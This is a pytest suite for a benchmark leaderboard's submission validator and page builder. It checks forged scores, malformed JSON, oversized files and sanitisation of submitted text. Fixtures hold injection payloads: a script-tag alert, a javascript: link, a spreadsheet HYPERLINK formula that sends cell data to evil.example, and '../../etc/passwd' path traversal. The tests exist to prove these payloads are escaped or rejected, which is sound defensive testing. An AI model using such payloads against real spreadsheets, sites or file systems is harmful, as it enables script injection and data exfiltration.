"""Leaderboard: submission packaging, validation against the registry, build outputs, CLI, and the
page in a real headless browser.

Tasks are real registry cards (TOML + TSV written here, suite ``lbtest``), so load_task, split
hashes and labels go through the same code as the packaged tasks; one test uses the real smoke task.
"""

from __future__ import annotations

import copy
import csv
import io
import itertools
import json
import os
import re
import shutil
import struct
import subprocess
import textwrap
import zlib
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

from lsdbench import PROTOCOL, __version__
from lsdbench.cli import main
from lsdbench.leaderboard import SubmissionError
from lsdbench.leaderboard.build import build_leaderboard, submission_filename
from lsdbench.leaderboard.package import create_submission
from lsdbench.leaderboard.render import fmt_params
from lsdbench.leaderboard.submission import (
    dumps_submission,
    load_json_file,
    make_submission,
    parse_meta,
    slugify,
    write_submission,
)
from lsdbench.leaderboard.validate import TaskLoader, check_submission, validate_submission
from lsdbench.metrics.registry import score_predictions
from lsdbench.results.result import result_filename, write_result
from lsdbench.tasks import registry

SUITE = "lbtest"
AMINO = "ACDEFGHIKLMNPQRSTVWY"
META = {"parameters": 8_000_000, "training_data": "UniRef50 2021_04", "licence": "MIT",
        "link": "https://example.org/toy-encoder"}
N_CI, N_TEST = 200, 300  # resamples in build tests: enough for stable marks, fast on 2 cores

TASKS = {
    # name: (type, primary, secondary, label names, n test)
    "lb_bin": ("binary", "accuracy", ["auroc", "mcc"], ["neg", "pos"], 48),
    "lb_multi": ("multiclass", "accuracy", ["macro_f1"], ["cyto", "nuc", "mem"], 45),
    "lb_reg": ("regression", "spearman", ["pearson", "mae"], [], 40),
}


# ---------------------------------------------------------------- fixtures and builders

@pytest.fixture(scope="module")
def card_dir(tmp_path_factory) -> Path:
    """Three small task cards of suite lbtest with local TSV data (train / valid / test rows)."""
    folder = tmp_path_factory.mktemp("lbcards")
    rng = np.random.default_rng(7)
    for name, (ttype, primary, secondary, labels, n_test) in TASKS.items():
        lines = ["id\tsplit\tsequence\tlabel"]
        for split, n in (("train", 12), ("valid", 6), ("test", n_test)):
            for i in range(n):
                seq = "".join(rng.choice(list(AMINO), rng.integers(8, 30)))
                label = f"{rng.normal(50, 8):.3f}" if ttype == "regression" else labels[(i + len(split)) % len(labels)]
                lines.append(f"{name}-{split}-{i}\t{split}\t{seq}\t{label}")
        (folder / f"{name}.tsv").write_text("\n".join(lines) + "\n")
        label_line = f"label_names = {json.dumps(labels)}" if labels else ""
        (folder / f"{name}.toml").write_text(textwrap.dedent(f"""
            name = "{name}"
            version = "1"
            suites = ["{SUITE}"]
            type = "{ttype}"
            primary_metric = "{primary}"
            secondary_metrics = {json.dumps(secondary)}
            {label_line}
            licence = "CC0"
            description = "leaderboard test task"
            citation = "none"

            [sources.data]
            path = "{name}.tsv"

            [format]
            kind = "tsv"
            header = true
            id = "id"
            sequence = "sequence"
            label = "label"

            [splits]
            train = {{ source = "data", where = {{ split = "train" }} }}
            valid = {{ source = "data", where = {{ split = "valid" }} }}
            test = {{ source = "data", where = {{ split = "test" }} }}
            """))
    return folder


@pytest.fixture
def loader(card_dir) -> TaskLoader:
    for name in TASKS:
        registry.register_card(card_dir / f"{name}.toml")  # conftest drops these after each test
    return TaskLoader()


def predictions(task, quality: float, seed: int, seeds=(0,)) -> list[dict]:
    """Per-seed predictions that agree with the truth on about ``quality`` of the items."""
    card, y = task.card, task.splits["test"].labels
    n, out = len(y), []
    for s in seeds:
        r = np.random.default_rng([seed, s])
        if card.type == "regression":
            out.append({"seed": s, "y_pred": (y + r.normal(0, 1, n) * 8 * (1 - quality) / max(quality, 0.05)).tolist()})
            continue
        k = card.n_classes
        pred = np.where(r.random(n) < quality, y, r.integers(0, k, n))
        if card.type == "multiclass":
            prob = r.dirichlet(np.ones(k), n)
            prob[np.arange(n), pred] += 2.0
            prob /= prob.sum(axis=1, keepdims=True)
            score = prob.tolist()
        else:
            score = np.where(pred == 1, 0.5 + 0.5 * r.random(n), 0.5 * r.random(n)).tolist()
        out.append({"seed": s, "y_pred": pred.astype(int).tolist(), "y_score": score})
    return out


def make_result(task, per_seed: list[dict], *, encoder="toy", probe="linear", dim=16, order=None) -> dict:
    """A lsdbench-result-1 object whose claimed scores are what its predictions give."""
    card, test = task.card, task.splits["test"]
    y = test.labels
    idx = np.arange(len(test)) if order is None else np.asarray(order)
    seeds = [dict(sp, y_pred=[sp["y_pred"][i] for i in idx],
                  **({"y_score": [sp["y_score"][i] for i in idx]} if "y_score" in sp else {})) for sp in per_seed]
    y_file = y[idx]
    scores = {m: score_predictions(card.type, m, y_file, seeds) for m in card.metrics}
    per_seed_scores = [{"seed": sp["seed"], "selected": {"alpha": 1.0}, "valid": {card.primary_metric: 0.5},
                        "test": {m: score_predictions(card.type, m, y_file, [sp]) for m in card.metrics}}
                       for sp in seeds]
    primary = scores[card.primary_metric]
    return {
        "schema": "lsdbench-result-1", "lsdbench_version": __version__, "protocol": PROTOCOL,
        "encoder": {"name": encoder, "spec": encoder, "config": {"k": 1}, "dim": dim,
                    "long_sequences": {"policy": "window", "max_length": None, "overlap": 0}},
        "task": {"name": card.name, "version": card.version, "type": card.type, "primary_metric": card.primary_metric,
                 "split_hashes": task.split_hashes(),
                 "sizes": {k: len(v) for k, v in task.splits.items()}},
        "probe": {"name": probe, "params": {}, "selected": {"alpha": 1.0}, "seeds": [sp["seed"] for sp in seeds]},
        "scores": {"valid": {card.primary_metric: 0.5}, "test": scores},
        "test_std": {card.primary_metric: float(np.std([s["test"][card.primary_metric] for s in per_seed_scores]))},
        "test_ci": {"metric": card.primary_metric, "low": primary - 0.05, "high": primary + 0.05, "level": 0.95,
                    "n_resamples": 1000, "seed": 0},
        "per_seed": per_seed_scores,
        "timings": {"embed_s": 0.1, "fit_s": 0.1},
        "environment": {"python": "3.11", "platform": "test"},
        "predictions": {"ids": [test.ids[i] for i in idx], "y_true": y_file.tolist(), "per_seed": seeds},
    }


def make_sub(loader, name="Toy encoder", quality=0.8, seed=1, probes=("linear",), **meta) -> dict:
    results = []
    for probe in probes:
        seeds = (0, 1, 2) if probe == "mlp" else (0,)
        for task_name in TASKS:
            task = loader.task(task_name)
            results.append(make_result(task, predictions(task, quality, seed, seeds), probe=probe))
    return make_submission(results, suite=SUITE, name=name, meta={**META, **meta})


def result_of(sub: dict, task: str, probe: str = "linear") -> dict:
    return next(r for r in sub["results"] if r["task"]["name"] == task and r["probe"]["name"] == probe)


def problems_of(sub_or_path, loader, **kw) -> list[str]:
    report = check_submission(sub_or_path, loader=loader, **kw)
    assert not report.ok
    return report.problems


# ---------------------------------------------------------------- validation

def test_packaged_submission_round_trips_and_is_canonicalised(loader, tmp_path):
    sub = make_sub(loader)
    # one result lists its items in another order: still valid, scored in registry order downstream
    task = loader.task("lb_multi")
    order = np.random.default_rng(3).permutation(len(task.splits["test"]))
    sub["results"][1] = make_result(task, predictions(task, 0.8, 1), order=order)
    path = write_submission(sub, tmp_path / "toy-encoder.lbtest.json")
    assert json.loads(path.read_text()) == sub and path.read_text() == dumps_submission(sub)
    assert dumps_submission(sub).count("\n  {") == 3  # one result per line: reviewable diffs
    valid = validate_submission(path, loader=loader)
    assert valid.slug == "toy-encoder" and valid.suite == SUITE and sorted(valid.entries) == ["linear"]
    canon = valid.entries["linear"]["lb_multi"]
    assert canon["predictions"]["ids"] == task.splits["test"].ids
    assert canon["predictions"]["y_true"] == task.splits["test"].labels.tolist()
    expected = score_predictions("multiclass", "accuracy", task.splits["test"].labels, canon["predictions"]["per_seed"])
    assert valid.scores["linear"]["lb_multi"] == pytest.approx(expected, abs=1e-12)
    assert valid.scores["linear"]["lb_multi"] == pytest.approx(result_of(sub, "lb_multi")["scores"]["test"]["accuracy"])


def test_claimed_scores_are_recomputed_from_the_registry_labels(loader):
    sub = make_sub(loader)
    ok = copy.deepcopy(sub)
    result_of(ok, "lb_reg")["scores"]["test"]["spearman"] += 1e-12  # within tolerance
    assert check_submission(ok, loader=loader).ok

    bumped = copy.deepcopy(sub)
    result_of(bumped, "lb_bin")["scores"]["test"]["accuracy"] += 1e-6
    result_of(bumped, "lb_reg")["per_seed"][0]["test"]["mae"] -= 0.01
    problems = problems_of(bumped, loader)
    assert len(problems) == 2
    assert "lb_bin" in problems[0] and "claims test accuracy" in problems[0]
    assert "lb_reg" in problems[1] and "seed 0" in problems[1] and "claims test mae" in problems[1]

    # a forged y_true matching the predictions, with scores computed against it, is still caught:
    # scoring uses the registry's labels, never the file's
    forged = copy.deepcopy(sub)
    res = result_of(forged, "lb_bin")
    preds = res["predictions"]["per_seed"]
    res["predictions"]["y_true"] = list(preds[0]["y_pred"])
    res["scores"]["test"] = {m: score_predictions("binary", m, np.array(preds[0]["y_pred"]), preds)
                             for m in ("accuracy", "auroc", "mcc")}
    assert res["scores"]["test"]["accuracy"] == 1.0
    problems = problems_of(forged, loader)
    assert any("y_true differs from the registry's labels" in p for p in problems)
    assert any("claims test accuracy 1.0 but its predictions give" in p for p in problems)


def test_every_problem_is_reported_and_named(loader, tmp_path):
    sub = make_sub(loader)
    sub["results"] = [r for r in sub["results"] if r["task"]["name"] != "lb_multi"]  # incomplete suite
    result_of(sub, "lb_bin")["task"]["split_hashes"]["test"] = "sha256:" + "0" * 64
    ids = result_of(sub, "lb_reg")["predictions"]["ids"]
    ids[1] = ids[0]  # duplicate item
    sub["encoder"]["link"] = "javascript:alert(1)"
    sub["extra"] = True
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(sub))
    report = check_submission(path, loader=loader)
    assert not report.ok and report.submission is None
    message = report.message()
    assert message.startswith(f"{path}: invalid submission, {len(report.problems)} problem(s):")
    for expected in ("$.encoder.link", "Additional properties are not allowed ('extra'",
                     "suite 'lbtest' is incomplete, no result for lb_multi",
                     "split hash of 'test'", "test ids appear more than once: 'lb_reg-test-0'",
                     "no prediction: 'lb_reg-test-1'"):
        assert expected in message, expected
    with pytest.raises(SubmissionError) as info:
        validate_submission(path, loader=loader)
    assert info.value.problems == report.problems


def test_item_ids_must_be_exactly_the_registry_test_ids(loader):
    sub = make_sub(loader)
    missing = copy.deepcopy(sub)
    res = result_of(missing, "lb_bin")
    res["predictions"]["ids"].pop()  # one item without a prediction (lists stay aligned)
    res["predictions"]["y_true"].pop()
    for sp in res["predictions"]["per_seed"]:
        sp["y_pred"].pop()
        sp["y_score"].pop()
    problems = problems_of(missing, loader)
    assert problems == ["results[0] (task 'lb_bin', probe 'linear'): 1 of the registry's 48 test ids have no "
                        "prediction: 'lb_bin-test-47'"]
    renamed = copy.deepcopy(sub)
    result_of(renamed, "lb_multi")["predictions"]["ids"][0] = "not-a-test-item"
    problems = problems_of(renamed, loader)
    assert any("1 ids are not test items of the registry: 'not-a-test-item'" in p for p in problems)
    assert any("no prediction: 'lb_multi-test-0'" in p for p in problems)


def test_suite_must_be_complete_once_per_probe(loader):
    sub = make_sub(loader, probes=("linear", "mlp"))
    assert validate_submission(sub, loader=loader).entries.keys() == {"linear", "mlp"}
    incomplete = copy.deepcopy(sub)
    incomplete["results"] = [r for r in incomplete["results"]
                             if not (r["probe"]["name"] == "mlp" and r["task"]["name"] == "lb_reg")]
    incomplete["results"].append(copy.deepcopy(result_of(sub, "lb_bin")))
    problems = problems_of(incomplete, loader)
    assert "probe 'mlp': suite 'lbtest' is incomplete, no result for lb_reg" in problems
    assert "probe 'linear': task 'lb_bin' appears 2 times (once per probe)" in problems


def test_protocol_versions_encoder_and_shapes_are_checked(loader):
    sub = make_sub(loader)
    sub["protocol"] = "lsdbench-probe-0"
    result_of(sub, "lb_reg")["task"]["version"] = "0"
    result_of(sub, "lb_multi")["encoder"]["config"] = {"k": 2}  # another configuration of the encoder
    result_of(sub, "lb_multi")["predictions"]["per_seed"][0]["y_score"][0] = [0.5, 0.5]  # 2 of 3 classes
    result_of(sub, "lb_bin")["predictions"]["per_seed"][0]["y_pred"][0] = 2  # not a class
    problems = "\n".join(problems_of(sub, loader))
    assert "protocol 'lsdbench-probe-0' is not this lsdbench's 'lsdbench-probe-1'" in problems
    assert "task version '0', the registry has '1'" in problems
    assert "results come from 2 encoder configurations" in problems
    assert "y_score[0] is not a list of 3 numbers" in problems or "y_score has shape" in problems
    assert "y_pred must hold class indices 0..1" in problems


@pytest.mark.parametrize("content, expected", [
    (b'{"schema": NaN}', "NaN is not valid JSON"),
    (b'{"schema": "lsdbench-submission-1", "schema": "x"}', "duplicate key 'schema'"),
    (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    (b'{"a": "\xff"}', "not UTF-8"),
    (b"[1, 2", "not valid JSON"),
    (b'"just a string"', "schema: at $: 'just a string' is not of type 'object'"),
])
def test_hostile_files_give_clear_problems(loader, tmp_path, content, expected):
    path = tmp_path / "hostile.json"
    path.write_bytes(content)
    problems = problems_of(path, loader)
    assert any(expected in p for p in problems), problems


def test_size_is_bounded_before_parsing(loader, tmp_path, monkeypatch):
    from lsdbench import strict_json

    path = tmp_path / "big.json"
    path.write_text(json.dumps({"pad": "x" * 5000}))

    def never(*a, **k):
        raise AssertionError("an oversized file was parsed")

    monkeypatch.setattr(strict_json, "parse", never)
    problems = problems_of(path, loader, max_bytes=4096)
    assert problems == [f"{path.stat().st_size} bytes is over the limit of 4096 bytes"]
    with pytest.raises(SubmissionError, match="not a regular file"):
        load_json_file(tmp_path)


def test_names_links_and_slugs_are_strict(loader):
    assert slugify("ESM-2 650M (t33)") == "esm-2-650m-t33" and slugify("a_b.c") == "a-b-c"
    with pytest.raises(SubmissionError, match="no usable file name"):
        slugify("../..")
    with pytest.raises(SubmissionError, match="missing encoder metadata: link"):
        make_submission([], suite=SUITE, name="x", meta={k: v for k, v in META.items() if k != "link"})
    with pytest.raises(SubmissionError, match="KEY=VALUE"):
        parse_meta(["weights=/etc/passwd"])
    assert parse_meta(["parameters=8,000,000", "licence= MIT "]) == {"parameters": 8_000_000, "licence": "MIT"}
    assert submission_filename("esm2", "open") == "esm2.open.json"
    for name in ("../../etc/passwd", "<script>", "x" * 65, "naïve"):
        sub = make_sub(loader, name="ok")
        sub["encoder"]["name"] = name
        assert any(p.startswith("schema: at $.encoder.name") for p in problems_of(sub, loader)), name


# ---------------------------------------------------------------- build

def tiny_png(width=2, height=1) -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


@pytest.fixture
def board(loader, tmp_path):
    """A submissions folder: strong, its near twin, a mid and a weak entry (mid also with an mlp probe)."""
    folder = tmp_path / "leaderboard" / "submissions"
    folder.mkdir(parents=True)
    (folder / ".gitkeep").touch()
    strong = make_sub(loader, name="Strong", quality=0.97, seed=11)
    twin = copy.deepcopy(strong)  # same predictions except one item per task: indistinguishable
    twin["encoder"].update(name="Strong twin", description="<script>alert(1)</script> | pipe",
                           training_data="=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
                           licence="![x](https://evil.example/i.png) [y](https://evil.example) www.evil.example")
    for i, res in enumerate(twin["results"]):
        sp = res["predictions"]["per_seed"][0]
        task = loader.task(res["task"]["name"])
        if task.card.type == "regression":
            sp["y_pred"][0] += 1.0
        else:  # the other class, with the scores that give it (validation checks y_pred against y_score)
            old, new = sp["y_pred"][0], (sp["y_pred"][0] + 1) % task.card.n_classes
            sp["y_pred"][0] = new
            if task.card.type == "multiclass":
                row = sp["y_score"][0]
                row[old], row[new] = row[new], row[old]
            else:
                sp["y_score"][0] = 1.0 - sp["y_score"][0]
        twin["results"][i] = make_result(task, res["predictions"]["per_seed"])
    subs = {"Strong": strong, "Strong twin": twin,
            "Mid": make_sub(loader, name="Mid", quality=0.6, seed=12, probes=("linear", "mlp")),
            "Weak": make_sub(loader, name="Weak", quality=0.15, seed=13, parameters=0)}
    for name, sub in subs.items():
        write_submission(sub, folder / submission_filename(slugify(name), SUITE))
    figures = tmp_path / "leaderboard" / "figures"
    (figures / "sweeps").mkdir(parents=True)
    (figures / "sweeps" / "noise curve.png").write_bytes(tiny_png())
    (figures / "notes.txt").write_text("not a figure")
    return tmp_path / "leaderboard", subs


def build(out: Path, loader) -> object:
    return build_leaderboard(out / "submissions", out, loader=loader, n_ci=N_CI, n_test=N_TEST)


def read_outputs(out: Path) -> dict[str, bytes]:
    return {name: (out / name).read_bytes() for name in ("README.md", "leaderboard.csv", "index.html")}


def test_build_ranks_marks_and_outputs(board, loader):
    out, subs = board
    report = build(out, loader)
    assert report.invalid == {} and report.figures == ["sweeps/noise curve.png"]
    assert sorted(p.name for p in out.iterdir()) == ["README.md", "figures", "index.html", "leaderboard.csv",
                                                     "submissions"]
    (table,) = report.tables
    assert [c.task for c in table.columns] == sorted(TASKS)
    rows = list(csv.DictReader(io.StringIO((out / "leaderboard.csv").read_text())))
    assert len(rows) == 5  # Mid has two probes: two entries
    # scores, ranks and mean rank checked independently from the submitted predictions
    scores = {}
    for r in rows:
        sub = subs[r["encoder"]]
        for task in TASKS:
            res = result_of(sub, task, r["probe"])
            t = loader.task(task)
            scores[r["entry"], task] = score_predictions(t.card.type, t.card.primary_metric, t.splits["test"].labels,
                                                         res["predictions"]["per_seed"])
            assert float(r[task]) == pytest.approx(scores[r["entry"], task], abs=1e-6)
            assert float(r[f"{task}_ci_low"]) <= float(r[task]) + 0.02 and float(r[f"{task}_ci_high"]) >= float(r[task]) - 0.02
    for task in TASKS:  # tie groups: contiguous spans of positions, best first, group 1 = best and its ties
        groups = sorted({(int(r[f"{task}_tie_group"]), int(r[f"{task}_rank_low"]), int(r[f"{task}_rank_high"]))
                         for r in rows})
        assert [g for g, _, _ in groups] == list(range(1, len(groups) + 1)) and groups[0][1] == 1
        assert all(b[1] == a[2] + 1 for a, b in itertools.pairwise(groups)) and groups[-1][2] == len(rows)
        for g, low, high in groups:
            assert sum(r[f"{task}_tie_group"] == str(g) for r in rows) == high - low + 1
        assert {r["entry"] for r in rows if r[f"{task}_tie_group"] == "1"} == \
            {r["entry"] for r in rows if r[f"{task}_best"] == "1" or r[f"{task}_tied_best"] == "1"}
        leaders = [max((r for r in rows if r[f"{task}_tie_group"] == str(g)), key=lambda r: scores[r["entry"], task])
                   for g, _, _ in groups]  # each group's leader beats, point-wise, every later group
        assert all(scores[a["entry"], task] >= scores[r["entry"], task] for a in leaders
                   for r in rows if int(r[f"{task}_tie_group"]) > int(a[f"{task}_tie_group"]))
    for r in rows:  # mean rank: of the middle of each task's tie-group ranks
        mids = [(int(r[f"{t}_rank_low"]) + int(r[f"{t}_rank_high"])) / 2 for t in TASKS]
        assert [float(r[f"{t}_rank"]) for t in TASKS] == mids
        assert float(r["mean_rank"]) == pytest.approx(np.mean(mids), abs=1e-4)
    assert [float(r["mean_rank"]) for r in rows] == sorted(float(r["mean_rank"]) for r in rows)
    assert [r["position"] for r in rows][:1] == ["1"] and rows[-1]["encoder"] == "Weak"
    by = {r["encoder"] + "/" + r["probe"]: r for r in rows}
    for task in TASKS:
        best = [r for r in rows if r[f"{task}_best"] == "1"]
        assert len(best) == 1 and best[0]["encoder"] in ("Strong", "Strong twin")
        other = "Strong twin" if best[0]["encoder"] == "Strong" else "Strong"
        assert by[other + "/linear"][f"{task}_tied_best"] == "1"  # one flipped item: not distinguishable
        assert by["Weak/linear"][f"{task}_tied_best"] == "0" and float(by["Weak/linear"][f"{task}_p_vs_best"]) < 0.05
    readme = (out / "README.md").read_text()
    assert "## Suite `lbtest`" in readme and "| lb_reg (spearman) " in readme
    assert readme.count("**") == 2 * len(TASKS) and readme.count(" †") >= len(TASKS)
    assert "[Strong twin](https://example.org/toy-encoder)" in readme and "| 8M " in readme and "| 0 " in readme
    assert "&lt;script&gt;alert\\(1\\)&lt;/script&gt; \\| pipe" in readme and "<script>" not in readme
    assert "evil.example" in readme and "](https://evil" not in readme and "https://evil" not in readme
    assert by["Strong twin/linear"]["training_data"].startswith("'=HYPERLINK")
    assert "![sweeps/noise curve.png](figures/sweeps/noise%20curve.png)" in readme
    html = (out / "index.html").read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and html.count("<script>") == 1
    assert "data:image/png;base64," + __import__("base64").b64encode(tiny_png()).decode() in html
    # offline and self-contained: nothing to fetch, and a CSP that would block it anyway
    assert "default-src 'none'" in html and "<link" not in html and "@import" not in html
    assert re.findall(r'(?:src|href)="([a-z]+:)', html) and \
        set(re.findall(r'(?:src|href)="([a-z]+:)', html)) == {"data:", "https:"}
    assert set(re.findall(r'href="([^"]+)"', html)) == {"https://example.org/toy-encoder"}


def test_build_is_deterministic_and_ignores_invalid_files(board, loader):
    out, subs = board
    build(out, loader)
    first = read_outputs(out)
    build(out, loader)
    assert read_outputs(out) == first  # byte-identical
    folder = out / "submissions"
    forged = copy.deepcopy(subs["Weak"])
    forged["encoder"]["name"] = "Forged"
    result_of(forged, "lb_bin")["scores"]["test"]["accuracy"] = 0.99
    write_submission(forged, folder / "forged.lbtest.json")
    write_submission(make_sub(loader, name="Misnamed"), folder / "something-else.lbtest.json")
    (folder / "linked.lbtest.json").symlink_to(folder / "strong.lbtest.json")
    (folder / "huge.lbtest.json").write_bytes(b" " * (2 * 2**20))
    report = build_leaderboard(folder, out, loader=loader, n_ci=N_CI, n_test=N_TEST, max_bytes=2**20)
    assert read_outputs(out) == first  # invalid files never change the leaderboard
    assert sorted(Path(p).name for p in report.invalid) == ["forged.lbtest.json", "huge.lbtest.json",
                                                            "linked.lbtest.json", "something-else.lbtest.json"]
    assert "claims test accuracy 0.99" in " ".join(report.invalid[str(folder / "forged.lbtest.json")])
    assert report.invalid[str(folder / "something-else.lbtest.json")] == [
        "file name must be 'misnamed.lbtest.json' (from encoder name 'Misnamed' and suite 'lbtest')"]
    assert "symbolic link" in report.invalid[str(folder / "linked.lbtest.json")][0]
    assert "over the limit of 1048576 bytes" in report.invalid[str(folder / "huge.lbtest.json")][0]
    assert len(report.tables[0].rows) == 5


def rank_columns(out: Path) -> dict[str, list[str]]:
    """Every entry's position, mean rank and per-task rank columns, by entry."""
    rows = csv.DictReader(io.StringIO((out / "leaderboard.csv").read_text()))
    keep = ("position", "mean_rank", *(f"{t}_{c}" for t in TASKS for c in ("rank", "tie_group", "rank_low",
                                                                           "rank_high")))
    return {r["entry"]: [r[k] for k in keep] for r in rows}


def test_noise_that_reorders_point_estimates_changes_no_rank(board, loader):
    """Strong and its twin differ by one item per task: a re-run where the one item falls the other way,
    and every regression prediction moves in the 6th decimal, swaps their point order but no rank."""
    out, subs = board
    build(out, loader)
    before, best_before = rank_columns(out), (out / "leaderboard.csv").read_text()
    rng = np.random.default_rng(5)
    strong, twin = copy.deepcopy(subs["Strong"]), copy.deepcopy(subs["Strong twin"])
    strong["results"], twin["results"] = twin["results"], strong["results"]
    rerun = {**subs, "Strong": strong, "Strong twin": twin}
    for name, sub in rerun.items():
        for i, res in enumerate(sub["results"]):
            task = loader.task(res["task"]["name"])
            if task.card.type == "regression":
                seeds = [dict(sp, y_pred=(np.asarray(sp["y_pred"]) + rng.uniform(-1e-6, 1e-6, len(sp["y_pred"])))
                              .tolist()) for sp in res["predictions"]["per_seed"]]
                sub["results"][i] = make_result(task, seeds, probe=res["probe"]["name"])
        write_submission(sub, out / "submissions" / submission_filename(slugify(name), SUITE))
    build(out, loader)
    after = rank_columns(out)
    assert (out / "leaderboard.csv").read_text() != best_before
    rows = {r["entry"]: r for r in csv.DictReader(io.StringIO((out / "leaderboard.csv").read_text()))}
    old = {r["entry"]: r for r in csv.DictReader(io.StringIO(best_before))}
    assert any(rows[e][f"{t}_best"] != old[e][f"{t}_best"] for e in rows for t in TASKS)  # the point order moved
    assert after == before  # the ranks did not
    assert before["strong/linear"] == before["strong-twin/linear"]  # one tie group on every task, one position


GPU_BOX = {"cpu": "AMD EPYC 9654", "cores": 16, "gpu": "NVIDIA H200"}
CPU_BOX = {"cpu": "CPU <b>B</b> | *fast*", "cores": 2}  # submitted text: shown escaped, never as markup


def add_costs(out: Path, subs: dict) -> None:
    """Costs as `lsdbench eval` records them: Strong on a GPU (three tasks, three rates), Weak on a CPU, Mid's
    linear entry read from a cache that had no record (all null); the twin and Mid's mlp entry record none."""
    def cost(rate, rss, machine, gpu=None):
        out = {"embeddings": "computed", "residues": 5000, "encode_s": round(5000 / rate, 3) if rate else 0.0,
               "residues_per_s": rate, "peak_rss_bytes": rss, "machine": machine}
        return out | ({"cuda_peak_bytes": gpu} if gpu else {})

    for res, rate in zip(subs["Strong"]["results"], (1000.0, 2000.0, 20000.0), strict=True):
        res["cost"] = cost(rate, 2**30 if rate == 2000.0 else 2**29, GPU_BOX, gpu=3 * 2**30)
    for res in subs["Weak"]["results"]:
        res["cost"] = cost(500000.0, 200 * 2**20, CPU_BOX)
    for res in subs["Mid"]["results"]:
        if res["probe"]["name"] == "linear":
            res["cost"] = {"embeddings": "cached", "residues": 0, "encode_s": 0.0, "residues_per_s": None,
                           "peak_rss_bytes": None, "machine": None}
    for name, sub in subs.items():
        write_submission(sub, out / "submissions" / submission_filename(slugify(name), SUITE))


def test_build_shows_cost_columns_and_draws_the_cost_figure(board, loader):
    out, subs = board
    add_costs(out, subs)
    report = build(out, loader)
    assert report.invalid == {}
    figure = out / "cost_lbtest.png"
    assert figure in report.written and figure.read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
    rows = {r["entry"]: r for r in csv.DictReader(io.StringIO((out / "leaderboard.csv").read_text()))}
    gpu_box, cpu_box = "AMD EPYC 9654, 16 cores, NVIDIA H200", "CPU <b>B</b> | *fast*, 2 cores"
    strong = rows["strong/linear"]
    assert strong["residues_per_s"] == "2000.0"  # the median of the three tasks, not their mean
    assert (strong["peak_rss_bytes"], strong["cuda_peak_bytes"], strong["machine"]) == (str(2**30), str(3 * 2**30),
                                                                                         gpu_box)
    weak = rows["weak/linear"]
    assert (weak["residues_per_s"], weak["cuda_peak_bytes"], weak["machine"]) == ("500000.0", "", cpu_box)
    for entry in ("strong-twin/linear", "mid/linear", "mid/mlp"):
        assert [rows[entry][k] for k in ("residues_per_s", "peak_rss_bytes", "cuda_peak_bytes", "machine")] == [""] * 4
    cols = list(rows["weak/linear"])  # appended columns: cost after flags, then the tie groups
    assert cols[-5 - 3 * len(TASKS):-3 * len(TASKS)] == ["flags", "residues_per_s", "peak_rss_bytes",
                                                          "cuda_peak_bytes", "machine"]
    assert cols[-3 * len(TASKS):] == [f"{t}_{c}" for t in sorted(TASKS) for c in ("tie_group", "rank_low", "rank_high")]

    readme = (out / "README.md").read_text()
    header = next(line for line in readme.splitlines() if line.startswith("| #"))
    assert header.rstrip(" |").endswith("| residues/s   | peak RSS   | peak GPU")
    line = {e: next(x for x in readme.splitlines() if f"[{e}]" in x and x.startswith("| ")) for e in ("Strong", "Weak")}
    assert re.search(r"\| 2K \(M1\) +\| 1 GiB +\| 3 GiB +\|$", line["Strong"])
    assert re.search(r"\| 500K \(M2\) +\| 200 MiB +\| - +\|$", line["Weak"])
    twin = next(x for x in readme.splitlines() if "[Strong twin]" in x and x.startswith("| "))
    assert re.search(r"\| - +\| - +\| - +\|$", twin)
    assert "M1: AMD EPYC 9654, 16 cores, NVIDIA H200; M2: CPU &lt;b&gt;B&lt;/b&gt; \\| \\*fast\\*, 2 cores" in readme
    assert "<b>" not in readme and "![mean rank against encoding cost](cost_lbtest.png)" in readme

    html = (out / "index.html").read_text()
    assert html.count('data-key="residues_per_s" data-type="num" data-order="desc"') == 1
    assert 'data-key="peak_rss" data-type="num" data-order="asc"' in html and 'data-key="peak_gpu"' in html
    assert f'data-value="{2000.0!r}" title="measured on M1: {gpu_box}">2K</td>' in html
    assert "CPU &lt;b&gt;B&lt;/b&gt; | *fast*" in html and "<b>" not in html
    assert 'data-value="" title="not recorded">-</td>' in html
    assert "data:image/png;base64," + __import__("base64").b64encode(figure.read_bytes()).decode() in html

    first = {**read_outputs(out), "cost_lbtest.png": figure.read_bytes()}
    build(out, loader)
    assert {**read_outputs(out), "cost_lbtest.png": figure.read_bytes()} == first  # the figure's bytes too

    # one entry with a cost compares nothing: no figure, and the stale one is removed
    for res in subs["Weak"]["results"]:
        del res["cost"]
    write_submission(subs["Weak"], out / "submissions" / "weak.lbtest.json")
    report = build(out, loader)
    assert not figure.exists() and figure not in report.written
    readme = (out / "README.md").read_text()
    assert "cost_lbtest.png" not in readme and "M1: AMD EPYC 9654" in readme and "M2" not in readme
    assert "cost_lbtest.png" not in (out / "index.html").read_text()


def test_empty_leaderboard_builds(loader, tmp_path):
    (tmp_path / "submissions").mkdir()
    report = build_leaderboard(tmp_path / "submissions", tmp_path, loader=loader)
    assert report.tables == [] and "No submissions yet." in (tmp_path / "README.md").read_text()
    assert (tmp_path / "leaderboard.csv").read_text().startswith("suite,position,entry,")
    assert fmt_params(950) == "950" and fmt_params(1_234) == "1.23K" and fmt_params(650_000_000) == "650M"


# ---------------------------------------------------------------- CLI

def test_cli_submit_validate_build(loader, tmp_path, capsys):
    results = tmp_path / "results"
    results.mkdir()
    for task_name in TASKS:
        task = loader.task(task_name)
        res = make_result(task, predictions(task, 0.8, 5))
        (results / f"toy__{task_name}__linear.json").write_text(json.dumps(res))
    (results / "notes.json").write_text(json.dumps({"not": "a result"}))  # ignored: not a result file
    out = tmp_path / "sub.json"
    argv = ["submit", "--results", str(results), "--suite", SUITE, "--name", "Toy AAC", "--out", str(out),
            "--meta", "parameters=0", "--meta", "training_data=none", "--meta", "licence=MIT",
            "--meta", "link=https://example.org/aac"]
    assert main(argv[:-2]) == 2  # no link: a one-line user error, nothing written
    assert "missing encoder metadata: link" in capsys.readouterr().err and not out.exists()
